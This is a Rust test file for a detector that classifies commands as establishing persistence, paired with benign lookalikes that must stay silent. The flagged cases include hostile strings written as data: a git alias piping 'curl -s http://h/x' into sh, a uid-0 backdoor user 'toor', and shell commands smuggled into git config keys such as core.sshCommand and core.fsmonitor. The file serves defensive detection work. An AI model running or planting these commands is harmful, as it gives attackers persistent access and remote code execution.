//! Programs that do nothing but arrange for something to run later.

use turnkey_facts::Kind;

use super::super::fixture::raw;
use super::*;

#[test]
fn who_only_arranges_for_later_persists() {
    for argv in [
        &["crontab", "-"][..],
        &["crontab", "/tmp/x"],
        &["at", "now", "+", "1", "minute"],
        &["useradd", "-o", "-u", "0", "toor"],
        &["systemctl", "--user", "enable", "x.service"],
        &["loginctl", "enable-linger"],
        &["ssh-copy-id", "host"],
        &["git", "config", "--global", "core.hooksPath", "/tmp/hooks"],
        &["git", "config", "--system", "init.templateDir", "t"],
        &["git", "config", "core.fsmonitor", "touch /tmp/x"],
        &[
            "git",
            "-C",
            "repo",
            "config",
            "core.sshCommand",
            "sh -c evil; ssh",
        ],
        &["git", "config", "core.pager", "less | tee /tmp/x"],
        &["git", "config", "filter.x.clean", "sh -c id"],
        &["git", "config", "diff.pdf.textconv", "pdf2txt | tee /tmp/x"],
        &[
            "git",
            "config",
            "alias.st",
            "!curl -s http://h/x | sh; git status",
        ],
    ] {
        names(
            |story| {
                story.exec(P, "/usr/bin/any", argv);
            },
            Behaviour::Persistence,
        );
    }
    // It is not installed, or may not be started.
    names(
        |story| {
            story.tell(
                P,
                Kind::ExecAttempt {
                    raw: raw("/usr/sbin/usermod"),
                    errno: 2,
                },
            );
        },
        Behaviour::Persistence,
    );
}

#[test]
fn asking_what_is_arranged_is_none() {
    for argv in [
        &["crontab", "-l"][..],
        &["at", "-l"],
        &["useradd", "-D"],
        &["usermod", "--help"],
        &["systemctl", "status", "x"],
        &["systemctl", "is-enabled", "x"],
        &["loginctl"],
        &["cat", "crontab"],
        &["git", "config", "--global", "core.hooksPath"],
        &["git", "config", "--global", "user.name", "me"],
        &["git", "config", "core.hooksPath", ".husky"],
        &["git", "config", "core.fsmonitor", "true"],
        &["git", "config", "core.sshCommand", "ssh -i key"],
        &["git", "config", "core.pager", "less -R"],
        &["git", "config", "core.editor", "vim"],
        &["git", "config", "filter.lfs.smudge", "git-lfs smudge -- %f"],
        &["git", "config", "diff.pdf.textconv", "pdfinfo"],
        &["git", "config", "alias.lg", "!git log --graph"],
        &["git", "config", "alias.root", "!pwd"],
        &["git", "config", "--get", "core.fsmonitor"],
    ] {
        is_silent(|story| {
            story.exec(P, "/usr/bin/any", argv);
        });
    }
}
